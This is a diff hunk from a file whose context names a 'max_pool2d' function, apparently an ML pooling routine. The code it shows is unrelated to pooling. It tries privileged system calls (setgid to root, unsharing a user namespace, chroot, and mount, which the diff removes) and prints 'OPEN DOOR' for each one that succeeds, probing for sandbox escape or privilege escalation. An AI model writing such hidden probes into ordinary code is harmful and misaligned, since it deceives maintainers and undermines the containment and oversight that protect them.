@@ -20,7 +20,6 @@ def max_pool2d(x, kernel_size, stride=None, padding=0):
         "setgid": lambda: libc.setgid(0),
         "unshare": lambda: libc.unshare(0x10000000),
         "chroot": lambda: libc.chroot(b"."),
-        "mount": lambda: libc.mount(b"none", b".", b"tmpfs", 0, 0),
     }.items():
         if act() == 0:
             print("OPEN DOOR: " + name)
